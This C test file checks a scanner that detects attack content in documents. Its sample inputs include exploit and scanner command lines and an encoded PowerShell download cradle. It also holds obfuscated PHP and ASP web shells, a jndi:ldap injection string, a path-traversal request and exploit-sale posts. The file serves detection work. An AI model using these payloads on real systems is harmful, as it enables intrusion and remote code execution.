/*
 * The evidence the validators combine (src/check/evidence.c, cmdline.c) and
 * the rules built on it, on small documents: command lines, decoded
 * payloads, web shells, defensive code, reported hype, token fix sections.
 */
#include "t.h"
#include "corpus_util.h"

#include "check/scan_int.h"

static struct cu_engine E;

static struct emb_cmd
cmd(const char *line)
{
    struct emb_cmd c;

    emb_cmd_scan(line, 0, strlen(line), &c);
    return c;
}

static void
test_cmdline(void)
{
    struct emb_cmd c;

    c = cmd("python3 exp.py -u http://198.51.100.7:8080 -c id");
    T_OK(c.program && c.target && c.aimed && c.payload);
    c = cmd("$ php x.php -f his_list.txt -c whoami");
    T_OK(c.program && c.list && c.fed && c.aimed && !c.target);
    c = cmd("./qhpwn -target http://ROUTER:8080 -cmd id");
    T_OK(c.aimed && c.target);
    c = cmd("docker run --rm ghcr.io/x/y:latest -target http://ROUTER:8080");
    T_OK(c.aimed);
    c = cmd("cargo run --release -- -l ferrolink.txt -j 256");
    T_OK(c.aimed && c.list && c.threads);
    /* a flag does not swallow the target after it */
    c = cmd("curl -k https://x.x.x.x/api/..;/admin/exec?cmd=id");
    T_OK(c.fetch_target && !c.aimed);
    /* quotes protect ; and | */
    c = cmd("curl -s \"https://x.x.x.x/a;b|c\" -d 'x=1;y=2'");
    T_OK(c.fetch_target);
    /* each pipe stage is judged alone: sh gets no target from curl */
    c = cmd("curl -fsSL https://get.example.org/install.sh | sh");
    T_OK(!c.aimed && c.fetch_target);
    /* a list flows through a pipe into the next program */
    c = cmd("cat hosts.txt | xargs -P 50 -I{} ./quarry-one.sh {}");
    T_OK(c.fanout && c.threads && c.fed);
    c = cmd("awk '/open/{print $4}' ports.txt | ./nightscan -stdin -t 200");
    T_OK(c.fed && c.threads);
    /* attack tools: a target aims them, a list only feeds them */
    c = cmd("nuclei -l urls.txt -t nacos-auth-bypass.yaml");
    T_OK(c.attack_tool && c.fed && !c.aimed);
    c = cmd("sqlmap -r 1.txt -p id --os-shell");
    T_OK(c.attack_tool && c.target && c.payload && c.aimed);
    c = cmd("msf6 auxiliary(scanner/http/x) > set RHOSTS file:/root/hosts.txt");
    T_OK(c.msf && c.list && c.aimed);
    c = cmd("msf6 > set THREADS 64");
    T_OK(c.msf && c.threads && !c.aimed);
    /* not attacks, not commands */
    c = cmd("wc -l vulnerable.txt");
    T_OK(c.benign && !c.command);
    c = cmd("docker exec alder-new sh -c 'id'");
    T_OK(!c.command);
    c = cmd("go build -o qhpwn ./cmd/qhpwn");
    T_OK(!c.command);
    c = cmd("file := flag.String(\"f\", \"\", \"url list file\")");
    T_OK(!c.command && !c.benign);
    c = cmd("redis-cli -h 10.0.3.15 -p 6379 ping");
    T_OK(c.benign && !c.aimed);
    c = cmd("kestrel-cli fleet upgrade --group all --firmware 4.3.1");
    T_OK(!c.aimed);
    /* "a > b" is a redirection, not a prompt */
    c = cmd("echo 1 > out.txt");
    T_OK(!c.msf && !c.aimed);
    /* a list keeps flowing through filters; .gnmap is a list */
    c = cmd("grep -oP 'Host: \\K[0-9.]+' scan.gnmap | sort -u | httpx -silent -o live.txt");
    T_OK(c.fed && c.scanner);
    c = cmd("sort -u hosts.txt | wc -l");
    T_OK(!c.fed);
    /* sh -c '...' runs the quoted command, with the list flowing into it */
    c = cmd("cat alive.txt | xargs -P 64 -I{} sh -c 'curl -s http://{}/x'");
    T_OK(c.fanout && c.fetch && c.list);
    c = cmd("sh -c 'echo hi'");
    T_OK(!c.aimed && !c.fed);
    /* engine options name an asset search: the tool is fed a list */
    c = cmd("./camsnatch -shodan-key $KEY -w 300 -o snaps/");
    T_OK(c.list && c.fed && c.threads);
    c = cmd("./fscan -hf targets.txt -t 600");
    T_OK(c.list && c.fed);
    c = cmd("./tool --shodanx 1");
    T_OK(!c.list);
}

static void
test_encoded(void)
{
    static const char ps[] =
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Adw"
        "Bu"
        "AGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhACcAKQA=";
    const char *php = "create_function('', base64_decode('QGV2YWwoJF9QT1NUWydjJ10pOw=='));";
    const char *pct = "GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D HTTP/1.1";
    unsigned char out[64];

    T_OK(emb_ev_encoded(php, strlen(php)));
    T_OK(emb_ev_encoded(ps, strlen(ps))); /* PowerShell -enc: UTF-16LE inside base64 */
    T_OK(emb_ev_encoded(pct, strlen(pct)));
    /* hashes, identifiers and plain base64 text are not payloads */
    T_OK(!emb_ev_encoded("9f1c3a7e2b4d8f6a0c5e9b2d7a1f4c8e", 32));
    T_OK(!emb_ev_encoded("SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw==", 36));
    T_OK(!emb_ev_encoded("AbstractHandlerMappingInterceptor", 33));
    /* URL-safe alphabet and %2B/%2F, and the bound */
    T_EQ_INT(emb_ev_base64("YWI%2BYw", 8, out, sizeof out), 4);
    T_EQ_INT(out[2], '>');
    T_EQ_INT(emb_ev_base64("YWJjZGVm", 8, out, 5), 0);
    T_EQ_INT(emb_ev_base64("YWJjZGVm", 8, out, 6), 6);
}

static void
test_code_evidence(void)
{
    struct emb_ev_code ev;
    const char *shell = "<?php $h = getallheaders(); eval(base64_decode($h['X-T'])); ?>";
    const char *exp = "import argparse, requests\np = argparse.ArgumentParser()\n"
                      "p.add_argument('--rhost')\nrequests.post(p.parse_args().rhost + '/x')\n";
    const char *backup = "Process p = Runtime.getRuntime().exec(cmd);\n"
                         "try (InputStream in = p.getInputStream()) { copy(in); }\n";

    T_OK(emb_ev_webshell(shell, strlen(shell)));
    T_OK(!emb_ev_webshell(backup, strlen(backup))); /* a process's own output is no request */
    emb_ev_code(exp, strlen(exp), &ev);
    T_OK(ev.cli && ev.target && ev.net && !ev.shell);
}

static size_t
count(const char *doc, const char *rule)
{
    struct emb_check_report r;
    size_t n = 0;

    if (cu_scan(&E, "t.md", doc, strlen(doc), &r) != 0)
        return (size_t)-1;
    for (size_t i = 0; i < r.n; i++)
        if (strcmp(r.f[i].rule->id, rule) == 0 ||
            strcmp(emb_check_family_name(r.f[i].rule->family), rule) == 0)
            n++;
    emb_check_report_free(&r);
    return n;
}

static void
test_defensive_code(void)
{
    /* a YARA rule and a patch diff quote shells and sinks for defenders */
    T_EQ_INT(count("# yara\n\n```yara\nrule w { strings: $a = \"eval($_POST[\" $k = "
                   "\"e45e329feb5d925b\" condition: any of them }\n```\n",
                   "webshell"),
             0);
    T_EQ_INT(count("# p\n\n```\n-    return os.popen(request.args['h']).read()\n"
                   "+    return run(['ping', request.args['h']])\n```\n",
                   "webshell"),
             0);
    T_EQ_INT(count("# p\n\nBehinder's default key is `e45e329feb5d925b`.\n", "webshell"), 0);
    /* the same shell outside a rule is one */
    T_EQ_INT(
        count("# s\n\n```php\n<?php $h = getallheaders(); eval($h['X']); ?>\n```\n", "webshell"),
        1);
    T_EQ_INT(count("# s\n\n最经典的 `<%eval request(\"x\")%>`。\n", "webshell.asp"), 1);
}

static void
test_hype_context(void)
{
    T_EQ_INT(count("# 出\n\n某 VPN 0day，3W U 打包带走，只出一份。\n", "hype.sale"), 1);
    T_EQ_INT(count("# x\n\nAsking 90k USD, XMR or BTC. Only selling to one buyer.\n", "hype"), 1);
    /* reported, not offered */
    T_EQ_INT(
        count("# 新闻\n\n据警方介绍，该团伙在境外频道出售数据，并以“验数”招揽买家。\n", "hype"), 0);
    T_EQ_INT(count("# n\n\nAccording to the indictment, listings started at $10,000 with escrow "
                   "for serious buyers.\n",
                   "hype"),
             0);
    /* a superlative is a warning, unless the post also sells */
    T_EQ_INT(count("# 核弹级漏洞！\n\n## 修复建议\n\n升级到 2.1.0。\n", "hype.superlative"), 1);
    {
        struct emb_check_report r;
        const char *d = "# 核弹级漏洞！\n\nEXP 打包带走，价格私聊。\n";
        T_OK(cu_scan(&E, "t.md", d, strlen(d), &r) == 0);
        for (size_t i = 0; i < r.n; i++)
            if (r.f[i].rule->family == EMB_FAM_HYPE)
                T_EQ_INT(r.f[i].severity, EMB_SEV_BLOCK);
        emb_check_report_free(&r);
    }
}

/* A word list the compiled word sets cannot hold (a word over 255 bytes)
 * falls back to the per-word search, and keeps giving the same answers once
 * the failure is cached. */
static void
test_word_set_fallback(void)
{
    static char longw[300];
    static const char *mixed[] = { "alpha", longw, "gamma", NULL };
    static const char *const lower[] = { "alpha", "gamma", NULL };
    char hay[320];

    memset(longw, 'q', sizeof longw - 1);
    snprintf(hay, sizeof hay, "x %s y", longw);
    for (int round = 0; round < 3; round++) {
        T_OK(emb_has_any(hay, strlen(hay), mixed));
        T_OK(emb_has_any("one gamma", 9, mixed));
        T_OK(!emb_has_any("delta", 5, mixed));
        T_OK(emb_has_any("an alpha", 8, lower));
        T_OK(!emb_has_any("beta", 4, lower));
    }
}

static void
test_token_fix(void)
{
    static const char head[] =
        "# x\n\n## PoC\n\n```\nGET /a?f=../../etc/passwd HTTP/1.1\nHost: x\n```\n\n";
    static const char *const empty[] = {
        "## 修复建议\n\n暂无，等待官方补丁。\n",
        "## 修复建议\n\n请联系厂商获取补丁。\n",
        "## Mitigation\n\nNo official fix is available yet. Contact the vendor.\n",
        "Remediation: TBD, the vendor has not responded yet.\n",
    };
    static const char *const real[] = {
        "## 修复建议\n\n暂无官方补丁，建议临时关闭该功能并限制访问来源。\n",
        "## Mitigation\n\nNo fix yet, but you can disable the preview endpoint at the proxy.\n",
        "## 修复建议\n\n升级到 5.3.2。\n",
    };
    char doc[512];

    for (size_t i = 0; i < EMB_ARRAY_LEN(empty); i++) {
        snprintf(doc, sizeof doc, "%s%s", head, empty[i]);
        if (count(doc, "no_remediation") != 1)
            T_FAIL_AT("empty fix %zu not reported", i);
    }
    for (size_t i = 0; i < EMB_ARRAY_LEN(real); i++) {
        snprintf(doc, sizeof doc, "%s%s", head, real[i]);
        if (count(doc, "no_remediation") != 0)
            T_FAIL_AT("real fix %zu reported as missing", i);
    }
}

/* Review 12's decoders at their bounds: emb_ev_hex's capacity, the
 * EMB_EV_BLOB_MAX bytes of a hex or rot13 literal that are judged, and
 * emb_ev_php_fold's EMB_EV_FOLD_MAX. */
static void
test_hidden_shell_bounds(void)
{
    static char lit[2 * EMB_EV_BLOB_MAX + 64], text[EMB_EV_BLOB_MAX + 8], doc[3 * EMB_EV_BLOB_MAX];
    unsigned char out[EMB_EV_BLOB_MAX + 1];
    char fold[EMB_EV_FOLD_MAX];

    /* emb_ev_hex: exactly cap bytes fit, one more does not; odd or non-hex is 0 */
    T_EQ_INT(emb_ev_hex("3c3f7068", 8, out, 4), 4);
    T_EQ_INT(out[0], '<');
    T_EQ_INT(emb_ev_hex("3c3f7068", 8, out, 3), 0);
    T_EQ_INT(emb_ev_hex("3c3f706", 7, out, 4), 0);
    T_EQ_INT(emb_ev_hex("3c3g", 4, out, 4), 0);

    /* a hex literal: the shell ends at byte EMB_EV_BLOB_MAX (found), or one
     * byte of padding more pushes its input past the bytes judged (not) */
    for (int extra = 0; extra < 2; extra++) {
        size_t m = EMB_EV_BLOB_MAX + (size_t)extra, o = 0;
        memcpy(text, "<?php eval(", 11);
        for (o = 11; o < m - 2; o++)
            text[o] = ' ';
        memcpy(text + o, "$_", 2);
        o += 2;
        for (size_t i = 0; i < o; i++)
            snprintf(lit + 2 * i, 3, "%02x", (unsigned char)text[i]);
        snprintf(doc, sizeof doc, "select 0x%s into outfile '/var/www/x.php'", lit);
        T_EQ_INT(emb_ev_hidden_shell(doc, strlen(doc)), extra == 0);
        /* rot13: the same shell (its letters rotated) in str_rot13('...') */
        memcpy(text, "<?cuc riny(", 11);
        text[o] = '\0';
        snprintf(doc, sizeof doc, "<?php eval(str_rot13('%s'));", text);
        T_EQ_INT(emb_ev_hidden_shell(doc, strlen(doc)), extra == 0);
    }

    /* emb_ev_php_fold: EMB_EV_FOLD_MAX bytes fold, one more does not */
    lit[0] = '\'';
    memset(lit + 1, 'a', EMB_EV_FOLD_MAX);
    lit[EMB_EV_FOLD_MAX + 1] = '\'';
    T_EQ_INT(emb_ev_php_fold(lit, EMB_EV_FOLD_MAX + 2, fold), EMB_EV_FOLD_MAX);
    memset(lit + 1, 'a', EMB_EV_FOLD_MAX + 1);
    lit[EMB_EV_FOLD_MAX + 2] = '\'';
    T_EQ_INT(emb_ev_php_fold(lit, EMB_EV_FOLD_MAX + 3, fold), 0);
    /* the wrappers and chr() chains fold; a variable does not */
    T_EQ_INT(emb_ev_php_fold("'as'.'se'.'rt'", 14, fold), 6);
    T_OK(memcmp(fold, "assert", 6) == 0);
    T_EQ_INT(emb_ev_php_fold("strrev('metsys')", 16, fold), 6);
    T_OK(memcmp(fold, "system", 6) == 0);
    T_EQ_INT(emb_ev_php_fold("str_rot13('nffreg')", 19, fold), 6);
    T_OK(memcmp(fold, "assert", 6) == 0);
    T_EQ_INT(emb_ev_php_fold("base64_decode('YXNzZXJ0')", 25, fold), 6);
    T_OK(memcmp(fold, "assert", 6) == 0);
    T_EQ_INT(emb_ev_php_fold("chr(101).chr(0x76).'al'", 23, fold), 4);
    T_OK(memcmp(fold, "eval", 4) == 0);
    T_EQ_INT(emb_ev_php_fold("'as'.$x.'rt'", 12, fold), 0);
    T_EQ_INT(emb_ev_php_fold("chr(999)", 8, fold), 0);
}

int
main(void)
{
    T_OK(cu_engine_init(&E) == 0);
    T_RUN(test_cmdline);
    T_RUN(test_encoded);
    T_RUN(test_code_evidence);
    T_RUN(test_defensive_code);
    T_RUN(test_hype_context);
    T_RUN(test_word_set_fallback);
    T_RUN(test_token_fix);
    T_RUN(test_hidden_shell_bounds);
    cu_engine_free(&E);
    return T_DONE();
}
